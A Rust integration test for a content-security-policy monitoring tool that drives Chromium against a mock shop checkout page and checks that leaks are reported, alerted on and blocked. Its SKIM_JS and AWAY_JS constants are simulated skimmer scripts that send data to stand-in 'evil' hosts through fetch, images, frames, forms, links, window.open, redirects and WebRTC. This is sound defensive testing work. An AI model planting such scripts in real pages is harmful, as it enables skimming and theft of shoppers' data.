//! Chromium on a shop's page under the headers that `cspwatch policy` suggests: the shop's own ways are quiet, and each way in
//! which data leaves is reported and becomes an alert. With the list enforced, nothing leaves.

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use cspwatch::base::lock::Mutex;
use hyper::Response;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha384};

use crate::support::browser::Browser;
use crate::support::certificates::Authority;
use crate::support::clickhouse::ClickHouse;
use crate::support::collector::{Collector, SHOP, cspwatch};
use crate::support::http;
use crate::support::server::{Received, Server};
use crate::support::until;

const SITE: &str = "www.shop.example";

/// The ways out, each with a host of its own, and the directive that reports it.
const LEAVING: [(&str, &str); 8] = [
    ("evil-fetch.example", "connect-src"),
    ("evil-image.example", "img-src"),
    ("evil-frame.example", "frame-src"),
    ("evil-form.example", "form-action"),
    ("evil-open.example", "connection-allowlist"),
    ("evil-link.example", "connection-allowlist"),
    ("evil-location.example", "connection-allowlist"),
    ("webrtc", "connection-allowlist"),
];

/// The shop's own ways: a request, a form, a link to a partner; and a script of its provider.
const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><title>Checkout</title><link rel="icon" href="data:,">
<body><iframe name="own" hidden></iframe><iframe name="theirs" hidden></iframe>
<form id="order" method="post" action="/order" target="own"><input name="n" value="1"></form>
<a id="offer" href="https://www.partner.example:PORT/offer" target="_blank">an offer</a>
<script src="https://cdn.pay.example:PORT/pay.js" integrity="HASH(pay.js)" crossorigin></script>
<script src="/shop.js" integrity="HASH(shop.js)" crossorigin></script>"#;

const SHOP_JS: &str = r#"
fetch("/cart");
document.getElementById("order").submit();
document.getElementById("offer").click();
"#;

/// What somebody added to the page. The last way out needs a window of its own, because the page is gone then.
const SKIM_JS: &str = r#"
const evil = (way) => `https://evil-${way}.example:${location.port}/?n=1`;
fetch(evil("fetch"), { mode: "no-cors" }).catch(() => {});
new Image().src = evil("image");
const frame = document.createElement("iframe");
frame.src = evil("frame");
const form = document.createElement("form");
[form.method, form.action, form.target] = ["post", evil("form"), "theirs"];
const link = document.createElement("a");
[link.href, link.target] = [evil("link"), "_blank"];
document.body.append(frame, form, link);
form.submit();
link.click();
window.open(evil("open"));
new RTCPeerConnection();
window.open(location.pathname + "/away");
"#;

const AWAY_JS: &str = r#"
location.href = `https://evil-location.example:${location.port}/?n=1`;
fetch("/done", { keepalive: true });
"#;

/// Chromium before 152 has no reports of a Connection-Allowlist: then reports as 156 sends them take their place.
const FIRST_VERSION: u32 = 152;
/// And it enforces the list behind these flags only, which later versions do not know.
const ENFORCING: [&str; 2] = [
    "--enable-features=ConnectionAllowlists,OverrideConnectionAllowlistOriginTrial",
    "--enable-blink-features=ConnectionAllowlists",
];

fn script(name: &str) -> Option<&'static str> {
    match name {
        "pay.js" => Some("window.paid = true;"),
        "shop.js" => Some(SHOP_JS),
        "skim.js" => Some(SKIM_JS),
        "away.js" => Some(AWAY_JS),
        _ => None,
    }
}

fn hash(name: &str) -> String {
    format!("sha384-{}", STANDARD.encode(Sha384::digest(script(name).unwrap())))
}

/// A page of the shop. The one that the shop is learnt from has nothing that leaves.
fn page(path: &str, port: &str) -> String {
    let script = |name| {
        format!("<script src=\"/{name}\" integrity=\"{}\" crossorigin></script>", hash(name))
    };
    let page = match path {
        "/checkout/learn" => PAGE.to_owned(),
        path if path.ends_with("/away") => {
            format!("<!doctype html><link rel=\"icon\" href=\"data:,\">{}", script("away.js"))
        }
        _ => format!("{PAGE}{}", script("skim.js")),
    };
    let page = page.replace("HASH(pay.js)", &hash("pay.js"));
    page.replace("HASH(shop.js)", &hash("shop.js")).replace("PORT", port)
}

fn answer(request: &Received, headers: &[(String, String)]) -> Response<String> {
    let mut response = Response::builder().header("access-control-allow-origin", "*");
    let path = request.target.as_str();
    if let Some(script) = path.strip_prefix('/').and_then(script) {
        return response.header("content-type", "text/javascript").body(script.to_owned()).unwrap();
    }
    response = response.header("content-type", "text/html");
    if request.host != SITE || !path.starts_with("/checkout") {
        let body = "<!doctype html><link rel=\"icon\" href=\"data:,\">";
        return response.body(body.to_owned()).unwrap();
    }
    for (name, value) in headers {
        response = response.header(name, value);
    }
    response.body(page(path, &request.port)).unwrap()
}

/// The shop, its collector and ClickHouse.
struct World {
    authority: Authority,
    collector: Collector,
    database: String,
    server: Server,
    headers: Arc<Mutex<Vec<(String, String)>>>,
}

impl World {
    fn new() -> Self {
        let authority = Authority::new();
        let (builder, database) = Collector::build().config(SHOP).behind_proxy().storing();
        let collector = builder.tls(&authority.issue(&["reports.example"])).start();
        let evil = LEAVING.map(|(host, _)| host).into_iter().filter(|host| *host != "webrtc");
        let hosts: Vec<&str> =
            [SITE, "cdn.pay.example", "www.partner.example"].into_iter().chain(evil).collect();
        let headers: Arc<Mutex<Vec<(String, String)>>> = Arc::default();
        let sent = Arc::clone(&headers);
        let acceptor = authority.issue(&hosts).acceptor();
        let server = Server::start(Some(acceptor), move |request| answer(request, &sent.lock()));
        Self { authority, collector, database, server, headers }
    }

    fn endpoint(&self) -> String {
        format!("https://reports.example:{}", self.collector.https().port())
    }

    fn port(&self) -> u16 {
        self.server.address().port()
    }

    /// Opens a page in a fresh browser, and waits for a condition.
    #[track_caller]
    fn visit(&self, path: &str, flags: &[&str], what: &str, holds: impl FnMut() -> bool) {
        let url = format!("https://{SITE}:{}{path}", self.port());
        let mut window = Browser::Chromium.open_with(&url, &self.authority, flags);
        window.service.until(what, holds);
    }

    /// What was asked for since then, as host and path.
    fn asked_since(&self, before: usize) -> Vec<String> {
        let received = self.server.received();
        let path = |target: &str| target.split('?').next().unwrap().to_owned();
        received[before..].iter().map(|one| format!("{}{}", one.host, path(&one.target))).collect()
    }

    /// Posts a report about a page as Chromium 156 sends it.
    fn report(&self, client: &str, path: &str, host: &str, directive: &str) {
        let page = format!("https://{SITE}:{}{path}", self.port());
        let blocked = match host {
            "webrtc" => host.to_owned(),
            host => format!("https://{host}:{}/", self.port()),
        };
        let (kind, body) = match directive {
            "connection-allowlist" => {
                (directive, json!({"connection": blocked, "disposition": "report"}))
            }
            _ => (
                "csp-violation",
                json!({"documentURL": page, "blockedURL": blocked, "effectiveDirective": directive,
                    "originalPolicy": format!("{directive} 'self'"), "disposition": "report", "statusCode": 200}),
            ),
        };
        let report = json!([{"age": 1, "type": kind, "url": page, "body": body}]).to_string();
        assert_eq!(self.collector.post_as(client, &report).status, 204);
    }

    /// The distinct values of columns of the reports about pages below a path.
    fn reported(&self, columns: &str, path: &str, condition: &str) -> String {
        let sql = format!(
            "SELECT DISTINCT {columns} FROM {}.reports WHERE startsWith(document_path, '{path}') AND kind != 'csp_hash' \
             AND {condition} ORDER BY ALL",
            self.database
        );
        ClickHouse::shared().try_query(&sql).unwrap_or_default()
    }

    /// Learns from a page that forbids everything what the shop's own ways are.
    fn learn(&self) {
        let policy = format!(
            "default-src 'none'; form-action 'none'; report-uri {}/report/shop",
            self.endpoint()
        );
        let list = "(response-origin);report-to=cspwatch;redirects=block;webrtc=block";
        let endpoint = format!("cspwatch=\"{}/report/shop\"", self.endpoint());
        *self.headers.lock() = [
            ("content-security-policy-report-only", policy.as_str()),
            ("connection-allowlist-report-only", list),
            ("reporting-endpoints", endpoint.as_str()),
        ]
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .to_vec();
        let path = "/checkout/learn";
        if Browser::Chromium.version() < FIRST_VERSION {
            self.report("203.0.113.7", path, "www.partner.example", "connection-allowlist");
        }
        let own = "connect-src\twww.shop.example\nconnection-allowlist\twww.partner.example\nform-action\twww.shop.example\n\
                   frame-src\twww.shop.example\nscript-src-elem\tcdn.pay.example\nscript-src-elem\twww.shop.example";
        let is_learnt =
            || self.reported("directive, blocked_host", path, "blocked_host != ''") == own;
        self.visit(path, &[], "all own ways are reported", is_learnt);
        for destination in ["pay.example", "partner.example"] {
            self.collector.decide("approve", destination, "ada", "ours");
        }
    }

    /// Sends the suggested headers as they are printed, but for the changed name of one.
    fn send_suggested(&self, name: impl Fn(&str) -> String) {
        let endpoint = self.endpoint();
        let arguments =
            ["policy", "shop", "--json", "--page-group", "payment", "--endpoint", &endpoint];
        let (code, answer) = self.collector.command(&arguments);
        assert_eq!(code, Some(0), "{answer}");
        let answer: Value = serde_json::from_str(&answer).unwrap();
        let headers = answer["page_groups"][0]["headers"].as_array().unwrap().iter();
        let text = |header: &Value, key: &str| header[key].as_str().unwrap().to_owned();
        *self.headers.lock() =
            headers.map(|header| (name(&text(header, "name")), text(header, "value"))).collect();
    }

    /// What `cspwatch doctor` says of a page.
    fn doctor(&self, path: &str) -> Value {
        let place = tempfile::tempdir().unwrap();
        let ca = place.path().join("ca.pem");
        std::fs::write(&ca, self.authority.pem()).unwrap();
        let url = format!("https://{SITE}:{}{path}", self.port());
        let here = [SITE, "reports.example"].map(|host| format!("{host}:127.0.0.1"));
        let resolve = here.iter().flat_map(|here| ["--resolve", here.as_str()]);
        let arguments = ["doctor", "--json", "--ca", ca.to_str().unwrap(), &url];
        let (_, text) = cspwatch(&arguments.into_iter().chain(resolve).collect::<Vec<_>>());
        serde_json::from_str(text.lines().next().unwrap()).unwrap()
    }

    /// Whether detection says of a destination that somebody should be paged.
    fn is_alert(&self, destination: &str) -> bool {
        let page = http::request(self.collector.admin(), "GET", "/metrics", "").unwrap().body;
        let begin = format!(
            "cspwatch_unknown_destination_clients{{site=\"shop\",page_group=\"payment\",destination=\"{destination}\","
        );
        page.lines().any(|line| line.starts_with(&begin) && line.contains("severity=\"page\""))
    }
}

const OWN_WAYS: [&str; 4] = [
    "www.shop.example/cart",
    "www.shop.example/order",
    "cdn.pay.example/pay.js",
    "www.partner.example/offer",
];

#[test]
fn under_the_suggested_headers_own_ways_are_quiet_and_all_others_are_alerts() {
    let world = World::new();
    world.learn();
    let before = world.server.received().len();
    world.send_suggested(str::to_owned);
    let path = "/checkout/live";
    let is_new = Browser::Chromium.version() >= FIRST_VERSION;
    for (host, directive) in LEAVING {
        if !is_new && directive == "connection-allowlist" {
            world.report("203.0.113.7", path, host, directive);
        }
    }
    let mut expected = LEAVING.map(|(host, _)| host);
    expected.sort_unstable();
    let all = expected.join("\n");
    world.visit(path, &[], "each way out is reported, and taken", || {
        let asked = world.asked_since(before);
        let is_taken = |host: &str| host == "webrtc" || asked.contains(&format!("{host}/"));
        LEAVING.iter().all(|(host, _)| is_taken(host))
            && world.reported("destination", path, "verdict = 'unknown'") == all
    });
    let asked = world.asked_since(before);
    for own in OWN_WAYS {
        assert!(asked.iter().any(|one| one == own), "{own}: {asked:?}");
    }
    let quiet =
        world.reported("kind, directive, blocked_host, verdict", path, "verdict != 'unknown'");
    assert_eq!(quiet, "", "{:?}", world.headers.lock());

    // Shoppers in two other networks meet the same.
    for client in ["198.51.100.9", "192.0.2.9"] {
        LEAVING.iter().for_each(|(host, directive)| world.report(client, path, host, directive));
    }
    for (host, _) in LEAVING {
        until(&format!("{host} is an alert"), || world.is_alert(host));
    }
    for own in ["shop.example", "pay.example", "partner.example"] {
        assert!(!world.is_alert(own), "{own}");
    }
}

/// What a list of the doctor's answer has as `id`.
fn ids<'a>(answer: &'a Value, list: &str) -> Vec<&'a str> {
    answer[list].as_array().unwrap().iter().map(|entry| entry["id"].as_str().unwrap()).collect()
}

#[test]
fn doctor_finds_nothing_wrong_with_the_suggested_list_and_says_what_it_closes() {
    let world = World::new();
    let path = "/checkout/live";
    let without = world.doctor(path);
    assert!(ids(&without, "findings").contains(&"no-connection-allowlist"), "{without:#}");
    world.report("203.0.113.7", path, "www.partner.example", "connection-allowlist");
    world.collector.settle();
    world.send_suggested(str::to_owned);
    let with = world.doctor(path);
    let about_lists = |id: &&&str| id.contains("connection-allowlist");
    assert_eq!(ids(&with, "findings").iter().find(about_lists), None, "{with:#}");
    for closed in ["everything", "navigation", "webrtc"] {
        assert!(ids(&without, "unseen").contains(&closed), "{without:#}");
        assert!(!ids(&with, "unseen").contains(&closed), "{with:#}");
    }
}

#[test]
fn with_the_suggested_list_enforced_own_ways_work_and_nothing_leaves() {
    let world = World::new();
    world.learn();
    let before = world.server.received().len();
    world.send_suggested(|name| name.replace("Allowlist-Report-Only", "Allowlist"));
    world.visit("/checkout/live", &ENFORCING, "own ways work", || {
        let asked = world.asked_since(before);
        let has = |wanted: &str| asked.iter().any(|one| one == wanted);
        OWN_WAYS.iter().all(|own| has(own)) && has("www.shop.example/done")
    });
    let asked = world.asked_since(before);
    assert!(!asked.iter().any(|one| one.starts_with("evil-")), "{asked:?}");
}
